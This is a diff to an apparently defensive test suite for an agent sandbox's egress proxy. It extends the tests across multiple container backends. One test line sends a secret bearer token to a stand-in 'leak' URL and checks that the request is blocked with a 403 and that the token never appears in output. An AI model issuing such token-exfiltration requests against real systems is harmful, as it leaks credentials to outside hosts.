@@ -4,13 +4,12 @@ import { join } from "node:path";
 import { routesFile, type Route } from "@claude-bottle/manifest";
 import { type Change, proposalId, type ProposalKind } from "@claude-bottle/shared/contracts";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { docker, engineMissing, engineObjects } from "../world/docker-cli.ts";
+import { backendKinds } from "../world/backend-kinds.ts";
 import { deciderOf, toolCall } from "../world/proposals.ts";
 import { noPipelock, pipelockKinds, realMissing } from "../world/pipelock-kinds.ts";
+import { shownOf } from "../world/shown-of.ts";
 import { createWorld, type World } from "../world/world.ts";
 
-const missing = engineMissing();
-if (missing !== null) process.stdout.write(`skipped: decisions of the operator: ${missing}\n`);
 if (realMissing !== null) process.stdout.write(`skipped: decisions with the real pipelock: ${realMissing}\n`);
 
 const TIMEOUT_MS = 180_000;
@@ -27,18 +26,23 @@ const kinds = [
   { ...noPipelock, pipelock: false },
   ...pipelockKinds.map((kind) => ({ ...kind, pipelock: true })),
 ];
+const present = backendKinds.flatMap(({ backend, missing }) => {
+  if (missing !== null)
+    process.stdout.write(`skipped: decisions of the operator, on ${backend}: ${missing}\n`);
+  return missing === null ? kinds.map((kind) => ({ ...kind, backend })) : [];
+});
 
-describe.skipIf(missing !== null).for(kinds)(
-  "the operator of bottles with $name",
+describe.for(present)(
+  "the operator of bottles with $name, on $backend",
   { timeout: TIMEOUT_MS },
-  ({ open, pipelock }) => {
+  ({ open, pipelock, backend }) => {
     const held = new AsyncDisposableStack();
     let world: World;
     let identity: string;
 
     beforeAll(async () => {
       const kind = held.use(await open());
-      world = held.use(await createWorld({ hosts, env: { ...env, ...kind.env } }));
+      world = held.use(await createWorld({ backend, hosts, env: { ...env, ...kind.env } }));
       await world.bottle(
         "b",
         `egress: { pipelock: ${pipelock} }\negress_proxy: ${JSON.stringify({ routes: first })}\nsupervise: true`,
@@ -51,7 +55,7 @@ describe.skipIf(missing !== null).for(kinds)(
 
     afterAll(async () => {
       await world.cli(["stop", identity]);
-      const left = await engineObjects(identity);
+      const left = await world.objects(identity);
       await held.disposeAsync();
       expect(left).toEqual([]);
     }, TIMEOUT_MS);
@@ -140,8 +144,7 @@ describe.skipIf(missing !== null).for(kinds)(
       const got = (await world.sink.requests()).find(({ url }) => url === "/later");
       expect(got?.headers).toContain(`Bearer ${env.LATER_TOKEN}`);
       expect(await inside(`${status} -d '${env.LATER_TOKEN}' https://new.example.test/leak`)).toBe("403 ");
-      const containers = await docker("ps", "-q", "--filter", `label=claude-bottle.identity=${identity}`);
-      const seen = await docker("inspect", ...containers.split("\n"));
+      const seen = (await shownOf(world, identity)).join("\n");
       expect(approved.stdout + approved.stderr + seen).not.toContain(env.LATER_TOKEN);
     });
 
